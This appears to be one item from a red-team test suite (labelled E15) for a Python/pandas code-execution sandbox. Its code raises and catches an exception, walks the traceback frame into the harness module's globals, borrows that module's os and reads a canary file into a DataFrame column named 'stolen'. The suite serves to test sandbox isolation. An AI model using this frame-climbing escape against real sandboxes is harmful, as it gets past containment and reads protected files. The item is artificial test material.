# technique: raise and catch, then __traceback__.tb_frame.f_back.f_globals climbs into the harness module namespace; use its os to read the canary
# goal: read
# redteam: E15
import pandas as pd

try:
    1 / 0
except ZeroDivisionError as exc:
    tb = exc.__traceback__
harness_globals = tb.tb_frame.f_back.f_globals
harness_os = harness_globals["os"]
fd = harness_os.open("{{CANARY_FILE}}", harness_os.O_RDONLY)
stolen = harness_os.read(fd, 4096).decode("latin-1")
df = pd.DataFrame({"stolen": [stolen], "from": [harness_globals.get("__file__", "?")]})
